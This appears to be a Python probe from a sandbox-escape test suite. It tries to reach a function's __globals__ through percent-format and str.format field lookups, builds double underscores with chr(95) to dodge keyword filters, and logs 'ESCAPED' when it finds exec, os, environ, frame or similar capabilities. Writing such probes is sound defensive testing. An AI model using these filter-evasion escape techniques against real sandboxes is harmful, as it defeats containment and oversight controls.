# id: fmt-percent-proxy
# technique: formats of other kinds: percent, format(), own spec with fields
# layer: python
# goal: capability
# success_marker: ESCAPED


def worth(x):
    """What `x` gives that a worker must not have; None where nothing."""
    u = chr(95) * 2
    try:
        if isinstance(x, dict):
            for k in x:
                if k in ('exec', 'open', u + 'builtins' + u, 'sys', 'os', 'importlib'):
                    return 'a namespace with ' + k
            return None
        for name in ('exec', 'listdir', 'setrecursionlimit', 'import_module', 'get_objects', 'environ', 'f_globals', 'co_consts', 'cell_contents'):
            if hasattr(x, name):
                return 'an object with ' + name
        if 'JsProxy' in repr(type(x)) or repr(x).startswith(('<frame', '<code', '<cell')):
            return repr(x)[:60]
    except Exception:
        return None
    return None


def attempt(ctx):
    u = chr(95) * 2
    class D(dict):
        def __missing__(self, k):
            return getattr(tick, k, None)
    yield ('%(' + u + 'globals' + u + ')s') % D() if 'builtins' in ('%(' + u + 'globals' + u + ')s') % D() else None
    class S(str):
        pass
    for t in (S('{0.' + u + 'globals' + u + '}'), '{0:{1.' + u + 'globals' + u + '}}'):
        for call in (lambda: t.format(tick, tick), lambda: str.format(t, tick, tick), lambda: S.format(t, tick, tick), lambda: format(tick, t)):
            try:
                s = call()
                yield {'exec': 1} if 'builtins' in s else None
            except Exception:
                pass


def tick(ctx):
    found = []
    try:
        found = list(attempt(ctx))
    except Exception as e:
        ctx.log.info('BLOCKED fmt-percent-proxy: ' + repr(e)[:160])
    for x in found:
        got = worth(x)
        if got:
            ctx.log.info('ESCAPED fmt-percent-proxy: ' + got)
    ctx.log.info('DONE fmt-percent-proxy ' + str(len(found)))
